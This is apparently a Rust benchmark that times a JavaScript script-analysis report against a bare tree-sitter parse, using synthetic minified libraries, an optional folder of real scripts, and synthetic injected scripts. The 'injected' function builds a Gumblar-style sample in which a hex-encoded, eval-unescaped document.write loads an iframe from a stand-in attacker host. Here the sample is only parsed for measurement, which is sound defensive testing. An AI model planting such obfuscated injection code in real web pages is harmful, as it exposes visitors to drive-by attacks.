//! What reading scripts costs: the whole report, beside the JavaScript parser alone.
//!
//! The scripts are made up in the manner of minified libraries, where nothing is encoded, and of injected ones; with
//! `HINOMI_CORPUS` naming a folder, the `.min.js` files in it are measured too.
#![allow(clippy::disallowed_methods, clippy::disallowed_types, reason = "a benchmark reads the clock and its corpus")]

use criterion::{BatchSize, Criterion, Throughput};
use hinomi::script::report;
use std::hint::black_box;
use std::path::Path;
use tree_sitter::Parser;

/// A library of about 120 KB as a minifier leaves it.
fn library(seed: usize) -> String {
    let mut text = String::from(
        "!function(e,t){\"object\"==typeof exports?module.exports=t():e.lib=t()}(this,function(){\"use strict\";",
    );
    for n in 0..600 {
        text += &format!(
            "function f{n}(e,t,n){{var r=e.nodeType,i=t&&t.options||{{}};if(!r||3===r||8===r)return n;for(var o=0,a=e.length;o<a;o++){{\
             var s=e[o];if(s&&s.parentNode)i[\"key{seed}\"+o]=s.getAttribute(\"data-value\")||i.items[o%{n}];}}\
             return i.callback?i.callback.call(e,t):n*{n}+{seed}}}"
        );
    }
    text + "return{f0:f0,f1:f1}});"
}

/// A script in the manner of Gumblar, its end inert.
fn injected(seed: usize) -> String {
    let coded: String = "document.write('<iframe src=\"//evil.example/\"></iframe>');".repeat(20);
    let coded: String = coded.bytes().map(|byte| format!(":{byte:02x}")).collect();
    format!("(function(){{var a{seed}='{coded}';eval(unescape(a{seed}.replace(/:/g,'%')))}})();")
}

fn corpus(folder: &Path) -> Vec<String> {
    let mut folders = vec![folder.to_path_buf()];
    let mut found = Vec::new();
    while let Some(folder) = folders.pop() {
        for path in std::fs::read_dir(folder).into_iter().flatten().flatten().map(|entry| entry.path()) {
            if path.is_dir() {
                folders.push(path);
            } else if path.to_string_lossy().ends_with(".min.js") {
                found.push(path);
            }
        }
    }
    found.sort();
    found.iter().filter_map(|path| std::fs::read_to_string(path).ok()).collect()
}

fn parsed(parser: &mut Parser, scripts: &[String]) {
    for script in scripts {
        black_box(parser.parse(script, None));
    }
}

fn measure(criterion: &mut Criterion, name: &str, scripts: &[String]) {
    let mut parser = Parser::new();
    let language = tree_sitter_javascript::LANGUAGE.into();
    parser.set_language(&language).expect("the grammar fits the parser");
    let size: usize = scripts.iter().map(String::len).sum();
    let mut group = criterion.benchmark_group(name);
    group.sample_size(10).throughput(Throughput::Bytes(size as u64));
    // A script that was read before is not read again.
    let mut turn = 0_u32;
    let mut anew = || {
        turn += 1;
        scripts.iter().map(|script| format!("{script}\n//{turn}")).collect::<Vec<_>>()
    };
    let read = |scripts: Vec<String>| scripts.iter().for_each(|script| drop(black_box(report(script))));
    group.bench_function("report", |bencher| bencher.iter_batched(&mut anew, read, BatchSize::PerIteration));
    group.bench_function("report remembered", |bencher| {
        bencher.iter(|| scripts.iter().for_each(|script| drop(black_box(report(script)))));
    });
    group.bench_function("parser alone", |bencher| bencher.iter(|| parsed(&mut parser, scripts)));
    group.finish();
}

fn main() {
    let mut criterion = Criterion::default().configure_from_args();
    measure(&mut criterion, "minified", &(0..5).map(library).collect::<Vec<_>>());
    measure(&mut criterion, "injected", &(0..20).map(injected).collect::<Vec<_>>());
    if let Some(folder) = std::env::var_os("HINOMI_CORPUS") {
        measure(&mut criterion, "corpus", &corpus(Path::new(&folder)));
    }
    criterion.final_summary();
}
